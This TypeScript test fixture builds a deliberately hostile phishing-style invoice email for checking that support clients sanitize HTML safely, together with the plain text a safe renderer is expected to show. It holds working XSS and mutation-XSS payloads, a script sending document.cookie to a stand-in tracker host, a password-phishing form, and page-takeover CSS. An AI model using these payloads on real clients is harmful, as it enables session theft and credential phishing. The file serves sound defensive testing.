// The hostile e-mail: a phishing-style "invoice" whose HTML tries everything a customer
// e-mail can throw at an agent's client. Clients must sanitize it, render it without running
// scripts, and block the remote tracking images. Nothing here is executed by the demo server.

export const HOSTILE_SUBJECT_HINT = 'Invoice';

export function hostileEmailHtml(customerName: string): string {
  const lines = [
    '<div class="zd-comment" dir="auto">',
    '<p dir="auto">Hello support team,</p>',
    '<p dir="auto">Your system charged me twice. Please review the invoice below <b>today</b>.</p>',
    // Script execution.
    "<script>fetch('http://tracker.invalid/steal?c='+encodeURIComponent(document.cookie))</script>",
    "<script src=\"http://tracker.invalid/payload.js\"></script>",
    // Event handlers.
    "<img src=\"x\" onerror=\"alert('xss-onerror')\">",
    "<body onload=\"alert('xss-onload')\">",
    "<details open ontoggle=\"alert('xss-ontoggle')\"><summary>Invoice details</summary><p>Amount due: $1,249.00</p></details>",
    "<div onmouseover=\"alert('xss-mouseover')\" style=\"padding:4px\">Hover for the breakdown</div>",
    // Dangerous URLs.
    "<p><a href=\"javascript:alert('xss-link')\">View invoice</a> · <a href=\"JaVaScRiPt&colon;alert('xss-obfuscated')\">Download PDF</a> · <a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgnZGF0YS11cmwnKTwvc2NyaXB0Pg==\">Open receipt</a></p>",
    "<a href=\"http://tracker.invalid/login\" target=\"_blank\">Verify your account</a>",
    // Plugins and frames.
    '<iframe src="http://tracker.invalid/frame" width="1" height="1"></iframe>',
    '<object data="http://tracker.invalid/payload.swf" type="application/x-shockwave-flash"><param name="allowScriptAccess" value="always"></object>',
    '<embed src="http://tracker.invalid/embed.swf">',
    // mXSS vectors that turn harmless-looking markup into script after re-parsing.
    "<svg><style><img src=x onerror=alert('mxss-svg-style')></style></svg>",
    "<svg><a xlink:href=\"javascript:alert('xss-svg-href')\"><text x=\"10\" y=\"20\">Click</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert('mxss-math')></style></mglyph></table></mtext></math>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert('mxss-noscript')>\"></p></noscript>",
    "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id=\"</style><img onerror=alert('mxss-form') src>\">",
    '</mtext></svg></mglyph></form></mtext></math></form>',
    // Forms and page takeover with CSS.
    '<form action="http://tracker.invalid/phish" method="post"><input name="password" type="password" placeholder="Password"><button>Confirm payment</button></form>',
    '<div style="position:fixed;top:0;left:0;width:100%;height:100%;background:#fff;z-index:2147483647">Your session expired. <a href="http://tracker.invalid/login">Log in again</a></div>',
    "<p style=\"background-image:url('http://tracker.invalid/css-beacon.png')\">Styled paragraph</p>",
    "<style>@import url('http://tracker.invalid/evil.css'); .zd-comment{display:none}</style>",
    '<base href="http://tracker.invalid/">',
    '<meta http-equiv="refresh" content="0;url=http://tracker.invalid/">',
    '<link rel="stylesheet" href="http://tracker.invalid/track.css">',
    // Remote tracking pixel.
    '<img src="http://tracker.invalid/pixel.gif?uid=8842&amp;open=1" width="1" height="1" alt="">',
    `<p dir="auto">Regards,<br>${customerName}</p>`,
    '</div>',
  ];
  return lines.join('\n');
}

/** The text a safe renderer should end up showing. */
export function hostileEmailText(customerName: string): string {
  return [
    'Hello support team,',
    'Your system charged me twice. Please review the invoice below today.',
    'Invoice details: amount due: $1,249.00',
    'View invoice · Download PDF · Open receipt',
    'Verify your account',
    `Regards,\n${customerName}`,
  ].join('\n\n');
}
